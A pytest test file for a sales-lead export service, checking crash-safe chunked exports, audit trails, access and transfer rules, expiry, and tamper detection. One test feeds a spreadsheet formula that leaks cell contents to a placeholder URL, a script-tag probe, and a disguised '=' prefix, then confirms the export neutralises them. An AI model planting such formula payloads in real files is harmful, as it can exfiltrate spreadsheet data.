"""Making exports: whole or not at all, in the right custody, for whoever still may."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine

from accounts import audit
from accounts.access import Refused
from accounts.models import AccountRole, Act, Alarm, AuditEvent, AuditManifest
from accounts.refusals import Conflict, Invalid
from accounts.services.ad_accounts import set_member
from leads import sealed_file
from leads.exports import file
from leads.exports.services.asking import request_export
from leads.exports.services.expiring import expire_exports, remove_orphans
from leads.exports.services.handing_out import download
from leads.exports.services.running import lease, run, run_due, stop
from leads.models import Export, Label, Lead, LeadLabel
from leads.selection import Selection
from leads.vault.models import SealedAnswers
from leads.vault.regions import alias_of
from leadscenter.lib.envelope import Tampered
from tests.world import World, make_form


class Killed(BaseException):
    """Stands for SIGKILL: nothing of ours catches it."""


def ask_for(world: World, **selection: object) -> Export:
    return request_export(
        actor=world.administrator,
        library=world.library,
        selection=Selection(**selection),  # type: ignore[arg-type]
    )


def content_of(world: World, export: Export) -> bytes:
    export = Export.objects.select_related("library__ad_account", "library__custodian").get(pk=export.pk)
    return b"".join(download(actor=world.administrator, export=export).parts)


def lines_of(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def on_disk() -> set[str]:
    return {path.name for path in file.folder().iterdir()}


def test_an_export_holds_every_lead_in_order_with_what_sales_made_of_it(world: World) -> None:
    first = world.add_lead(name="Ann", with_ad=True)
    second = world.add_lead(name="Bob", email="bob@example.com", phone="", region="us")
    label = Label.objects.create(library=world.library, name="hot")
    LeadLabel.objects.create(lead=first, label=label, received_at=first.received_at)
    export = ask_for(world)

    assert run_due() == 1

    lines = lines_of(content_of(world, export))
    assert [line["lead_id"] for line in lines] == [str(second.pk), str(first.pk)]
    assert lines[1] == {
        "lead_id": str(first.pk),
        "created_time": f"{first.received_at:%Y-%m-%d %H:%M:%S}",
        "form": "Trial",
        "form_version": "1",
        "campaign": "Spring",
        "ad_group": "Parents",
        "ad": "Blue",
        "status": "raw",
        "labels": "hot",
        "assignee": "",
        "region": "eu",
        "is_test": "no",
        "Your name": "Ann",
        "E-mail": "ann@example.com",
        "Phone": "+4915112345678",
        "What do you wish?": "A quiet room",
        "Consent: Send me news": "yes",
        "source": "form",
        "outcome": "",
        "duplicate_of": "",
        "expires_time": f"{first.received_at + timedelta(days=90):%Y-%m-%d %H:%M:%S}",
        "contacted_time": "",
        "status_changed_time": "",
        "follow_up_time": "",
        "delivery": "",
        "notes_count": "0",
        "form_id": str(world.form.pk),
        "campaign_id": str(world.ad.ad_group.campaign_id),
        "ad_group_id": str(world.ad.ad_group_id),
        "ad_id": str(world.ad.pk),
        "country": "DE",
        "language": "en",
        "utm_source": "test",
        **dict.fromkeys(("utm_medium", "utm_campaign", "utm_term", "utm_content", "utm_id", "ttclid"), ""),
    }
    assert lines[0]["Phone"] == ""
    export.refresh_from_db()
    assert (export.state, export.rows, export.total) == ("done", 2, 2)


def test_the_trail_says_which_leads_are_in_the_file_and_who_took_it(world: World) -> None:
    ids = sorted(world.add_lead().pk for _ in range(3))
    export = ask_for(world)
    run_due()
    content_of(world, export)

    made = AuditManifest.objects.get(event__act=Act.EXPORT_MADE, event__targets__object_id=export.pk)
    assert audit.unpack(bytes(made.object_ids)) == ids
    taken = AuditEvent.objects.get(act=Act.EXPORT_DOWNLOADED)
    assert (taken.actor, taken.count) == (world.administrator, 3)


def test_an_export_that_is_killed_at_half_goes_on_and_is_whole(world: World) -> None:
    ids = [world.add_lead(name=f"Person {number}").pk for number in range(7)]
    export = ask_for(world)
    chunks = 0

    def kill_at_second_chunk() -> None:
        nonlocal chunks
        chunks += 1
        if chunks == 2:
            raise Killed

    with pytest.raises(Killed):
        run_due(size=2, after_chunk=kill_at_second_chunk)
    export.refresh_from_db()
    assert (export.state, export.chunk, export.rows) == ("running", 2, 4)
    assert on_disk() == {f"{export.pk}.part", f"{export.pk}.ids"}
    with file.draft(export.pk).open("ab") as torn:  # what a killed run wrote and did not commit
        torn.write(b"half a record")

    assert run_due(size=2) == 0  # leased: not before the lease has run out
    Export.objects.filter(pk=export.pk).update(due_at=export.requested_at)
    assert run_due(size=2) == 1

    found = [line["lead_id"] for line in lines_of(content_of(world, export))]
    assert found == [str(lead_id) for lead_id in reversed(ids)]
    assert on_disk() == {f"{export.pk}.sealed"}
    made = AuditManifest.objects.get(event__act=Act.EXPORT_MADE)
    assert audit.unpack(bytes(made.object_ids)) == sorted(ids)


def test_an_export_that_is_killed_behind_its_last_chunk_holds_nobody_twice(world: World) -> None:
    ids = [world.add_lead().pk for _ in range(3)]
    export = ask_for(world)
    chunks = 0

    def kill_at_last_chunk() -> None:
        nonlocal chunks
        chunks += 1
        if chunks == 2:
            raise Killed

    with pytest.raises(Killed):
        run_due(size=2, after_chunk=kill_at_last_chunk)
    Export.objects.filter(pk=export.pk).update(due_at=export.requested_at)
    assert run_due(size=2) == 1
    found = [line["lead_id"] for line in lines_of(content_of(world, export))]
    assert found == [str(lead_id) for lead_id in reversed(ids)]


def test_an_export_whose_half_is_on_another_machine_starts_again(world: World) -> None:
    ids = {str(world.add_lead().pk) for _ in range(5)}
    export = ask_for(world)
    with pytest.raises(Killed):
        run_due(size=2, after_chunk=lambda: (_ for _ in ()).throw(Killed()))
    file.remove(export.pk)
    Export.objects.filter(pk=export.pk).update(due_at=export.requested_at)

    run_due(size=2)

    assert {line["lead_id"] for line in lines_of(content_of(world, export))} == ids


def test_nothing_of_an_unfinished_export_can_be_downloaded(world: World) -> None:
    for _ in range(3):
        world.add_lead()
    export = ask_for(world)
    with pytest.raises(Conflict):
        content_of(world, export)
    with pytest.raises(Killed):
        run_due(size=2, after_chunk=lambda: (_ for _ in ()).throw(Killed()))
    with pytest.raises(Conflict):
        content_of(world, export)
    assert not AuditEvent.objects.filter(act=Act.EXPORT_DOWNLOADED).exists()


def test_a_transfer_stops_a_running_export_at_the_next_chunk(world: World) -> None:
    for _ in range(5):
        world.add_lead()
    export = ask_for(world)
    chunks: list[int] = []

    def hand_over_after_the_first() -> None:
        chunks.append(1)
        if len(chunks) == 1:
            world.hand_over()

    run_due(size=2, after_chunk=hand_over_after_the_first)

    export.refresh_from_db()
    assert (len(chunks), export.state, export.rows, export.wrapped_key) == (1, "failed", 2, None)
    assert "transferred" in export.failure
    assert on_disk() == set()
    assert not AuditEvent.objects.filter(act=Act.EXPORT_MADE).exists()
    told = AuditEvent.objects.filter(act=Act.EXPORT_STOPPED, count=2, detail__in_flight=True)
    assert set(told.values_list("scope", "scope_id")) == {
        ("library", world.library.pk),
        ("ad_account", world.account.pk),
        ("business_center", world.account.business_center_id),
        ("business_center", world.client.pk),
    }


@pytest.mark.parametrize(
    ("role", "told"),
    [
        (AccountRole.ANALYST, "Only Administrators of "),
        (None, "Whoever asked for this file may not download these leads any more."),
    ],
)
def test_a_role_that_is_lost_while_the_last_chunk_is_written_stops_the_export(
    world: World, role: AccountRole | None, told: str
) -> None:
    world.add_lead()
    export = ask_for(world)
    set_member(actor=world.administrator, ad_account=world.account, user=world.operator, role=AccountRole.ADMINISTRATOR)

    def demote() -> None:
        actor, user = world.operator, world.administrator
        set_member(actor=actor, ad_account=world.account, user=user, role=role)

    run_due(after_chunk=demote)

    export.refresh_from_db()
    assert (export.state, export.failure[: len(told)], on_disk()) == ("failed", told, set())


def test_a_file_made_before_a_transfer_is_dead_for_both_sides(world: World) -> None:
    world.add_lead()
    export = ask_for(world)
    run_due()
    world.hand_over()
    export = Export.objects.select_related("library").get(pk=export.pk)
    for actor in (world.administrator, world.client_admin):
        with pytest.raises(Refused):
            download(actor=actor, export=export)
    assert expire_exports() == 1
    assert on_disk() == set()


def test_a_download_under_way_ends_when_the_leads_are_transferred(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sealed_file, "RECORD_BYTES", 100)
    for _ in range(5):
        world.add_lead()
    export = ask_for(world)
    run_due()
    export = Export.objects.select_related("library").get(pk=export.pk)
    parts = download(actor=world.administrator, export=export).parts
    assert len(next(parts)) == 100
    world.hand_over()
    with pytest.raises(Refused):
        next(parts)
    assert AuditEvent.objects.filter(act=Act.REFUSED, actor=world.administrator).count() == 1


@pytest.mark.parametrize("who", ["operator", "analyst", "stranger"])
def test_whoever_may_not_download_gets_no_export(world: World, who: str) -> None:
    world.add_lead()
    with pytest.raises(Refused) as refused:
        request_export(actor=getattr(world, who), library=world.library, selection=Selection())
    assert refused.value.stranger == (who == "stranger")
    assert not Export.objects.exists()
    assert not AuditEvent.objects.filter(act=Act.EXPORT_REQUESTED).exists()


def test_an_expired_file_is_unreadable_and_gone(world: World) -> None:
    world.add_lead()
    export = ask_for(world)
    run_due()
    export.refresh_from_db()
    Export.objects.filter(pk=export.pk).update(expires_at=export.finished_at)
    with pytest.raises(Conflict):
        content_of(world, export)
    assert expire_exports(dry_run=True) == 1
    assert on_disk() == {f"{export.pk}.sealed"}
    assert expire_exports() == 1
    export.refresh_from_db()
    assert (export.state, export.wrapped_key, on_disk()) == ("expired", None, set())


def test_files_that_a_crash_left_without_a_key_go_after_a_day(world: World) -> None:
    world.add_lead()
    ready, stopped, other = ask_for(world), ask_for(world), ask_for(world)
    run_due()
    for export in (stopped, other):
        for path in (file.draft(export.pk), file.draft_workbook(export.pk), file.draft_ids(export.pk)):
            path.write_bytes(b"x")
    file.finished(stopped.pk).write_bytes(b"x")
    Export.objects.filter(pk=stopped.pk).update(state="failed", wrapped_key=None)
    (file.folder() / "77.sealed").write_bytes(b"x")  # of no export at all
    (file.folder() / ".volume").write_bytes(b"x")  # none of ours
    before = on_disk()
    assert (remove_orphans(), on_disk()) == (0, before)  # a worker may be writing them
    assert remove_orphans(older_than=-1) == 2
    assert on_disk() == {name for name in before if name.startswith((f"{ready.pk}.", f"{other.pk}.", ".volume"))}
    assert len(lines_of(content_of(world, ready))) == 1


def test_what_a_spreadsheet_could_run_stays_text(world: World) -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    world.add_lead(name=evil, wish="\u200b＝1+1", phone="+6512345678")
    world.add_lead(name='Ann, "quoted"\nline', wish="<script>alert(1)</script>")
    export = ask_for(world)
    run_due()
    second, first = lines_of(content_of(world, export))
    assert first["Your name"] == "'" + evil
    assert first["What do you wish?"] == "'\u200b＝1+1"
    assert first["Phone"] == "+6512345678"
    assert second["Your name"] == 'Ann, "quoted"\nline'
    assert second["What do you wish?"] == "<script>alert(1)</script>"


def test_leads_that_arrive_after_the_request_or_do_not_match_are_not_in_the_file(world: World) -> None:
    form, version = make_form(world.account, "Second")
    kept = world.add_lead()
    world.add_lead(form=form, version=version)
    trashed = world.add_lead()
    type(trashed).objects.filter(pk=trashed.pk).update(state="trashed", trashed_at=trashed.received_at)
    export = ask_for(world, form=world.form.pk)
    world.add_lead()
    run_due()
    lines = lines_of(content_of(world, export))
    assert [line["lead_id"] for line in lines] == [str(kept.pk)]


def test_leads_of_long_ago_that_are_imported_after_the_request_are_not_in_the_file(world: World) -> None:
    kept, imported_before = world.add_lead(), world.add_lead()
    export = ask_for(world)
    with time_machine.travel(export.bound_at + timedelta(seconds=11)):
        imported_after = world.add_lead()
    long_ago = export.bound_at - timedelta(days=30)
    for lead in (imported_before, imported_after):
        Lead.objects.filter(pk=lead.pk).update(source="import", received_at=long_ago)
    run_due()
    lines = lines_of(content_of(world, export))
    assert [line["lead_id"] for line in lines] == [str(kept.pk), str(imported_before.pk)]
    export.refresh_from_db()
    assert (export.rows, export.total) == (2, 2)


def test_two_forms_that_use_one_key_for_two_questions_have_two_columns(world: World) -> None:
    form, version = make_form(world.account, "Second")
    world.add_lead(wish="one")
    world.add_lead(form=form, version=version, wish="two")
    export = ask_for(world)
    run_due()
    second, first = lines_of(content_of(world, export))
    assert (first["What do you wish? (Trial)"], first["What do you wish? (Second)"]) == ("one", "")
    assert (second["What do you wish? (Trial)"], second["What do you wish? (Second)"]) == ("", "two")
    assert second["E-mail"] == "ann@example.com"


def test_an_answer_that_no_version_asks_is_not_lost(world: World) -> None:
    world.add_lead(name="Ann")
    world.add_lead(name="Bob", extra=(["shoe", "Shoe size", "44", "short_answer"],))
    export = ask_for(world)
    run_due()
    second, first = lines_of(content_of(world, export))
    assert (first["Your name"], first["more_answers"]) == ("Ann", "")
    assert (second["Your name"], second["more_answers"]) == ("Bob", "Shoe size: 44")


def test_a_file_that_was_changed_moved_or_cut_does_not_read(world: World, tmp_path: Path) -> None:
    world.add_lead()
    export = ask_for(world)
    run_due()
    path = file.finished(export.pk)
    whole = path.read_bytes()
    assert b"ann@example.com" not in whole
    for broken in (whole[:-1], whole[:-60], whole[:50] + bytes([whole[50] ^ 1]) + whole[51:], whole + b"x"):
        path.write_bytes(broken)
        with pytest.raises(Tampered):
            content_of(world, export)
    path.write_bytes(whole)
    assert len(lines_of(content_of(world, export))) == 1


def test_a_file_that_is_not_here_any_more_is_told_before_the_first_byte(world: World) -> None:
    world.add_lead()
    export = ask_for(world)
    run_due()
    file.remove(export.pk)
    with pytest.raises(Conflict):
        content_of(world, export)
    assert not AuditEvent.objects.filter(act=Act.EXPORT_DOWNLOADED).exists()


def test_a_worker_that_was_overtaken_leaves_the_files_alone(world: World) -> None:
    world.add_lead()
    export = ask_for(world)
    mine = lease()
    assert mine is not None
    run(mine)
    assert on_disk() == {f"{export.pk}.sealed"}
    stop(mine, "too late")
    export.refresh_from_db()
    assert (export.state, on_disk()) == ("done", {f"{export.pk}.sealed"})


def test_another_format_or_the_trash_is_refused_with_words(world: World) -> None:
    with pytest.raises(Invalid):
        request_export(actor=world.administrator, library=world.library, selection=Selection(), file_format="pdf")
    with pytest.raises(Invalid):
        ask_for(world, state="trashed")
    assert not Export.objects.exists()


def test_a_sixth_export_under_way_is_refused(world: World) -> None:
    for _ in range(5):
        ask_for(world)
    with pytest.raises(Conflict):
        ask_for(world)
    assert Export.objects.count() == 5


def test_an_export_that_kills_its_workers_is_given_up(world: World) -> None:
    export = ask_for(world)
    long = ask_for(world)
    Export.objects.filter(pk=export.pk).update(tries=20)
    Export.objects.filter(pk=long.pk).update(lease=205, chunk=200, tries=20)  # in the workbook of a million
    run_due()
    for one in (export, long):
        one.refresh_from_db()
        assert (one.state, one.wrapped_key) == ("failed", None)


def test_export_with_a_lead_that_does_not_open_stops_and_alarms(world: World) -> None:
    lead = world.add_lead()
    rows = SealedAnswers.objects.using(alias_of(lead.region)).filter(pk=lead.pk)
    record = bytes(rows.values_list("sealed", flat=True)[0])
    rows.update(sealed=record[:-1] + bytes([record[-1] ^ 1]))
    export = ask_for(world)
    run_due()
    export.refresh_from_db()
    assert export.state == "failed"
    assert "could not be opened" in export.failure
    alarm = Alarm.objects.get()
    assert (alarm.kind, alarm.library, alarm.detail["purpose"]) == (Alarm.Kind.UNOPENABLE, world.library, "export")
